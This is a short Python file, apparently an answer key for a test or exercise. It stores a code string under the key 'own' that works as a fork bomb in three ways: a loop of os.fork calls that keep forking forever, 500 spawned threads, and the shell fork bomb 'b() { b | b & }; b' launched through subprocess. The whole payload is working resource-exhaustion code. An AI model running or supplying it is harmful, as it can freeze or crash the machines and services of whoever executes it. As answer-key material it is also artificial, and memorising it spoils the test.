"""A fork bomb, by fork, by thread, and by program."""

ANSWERS = {
    "own": """
import os
import subprocess
import threading
import time

for _ in range(2000):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
    except OSError as error:
        print(error)
        break
try:
    for _ in range(500):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError as error:
    print(error)
try:
    subprocess.Popen(["sh", "-c", "b() { b | b & }; b"])
except OSError as error:
    print(error)
"""
}
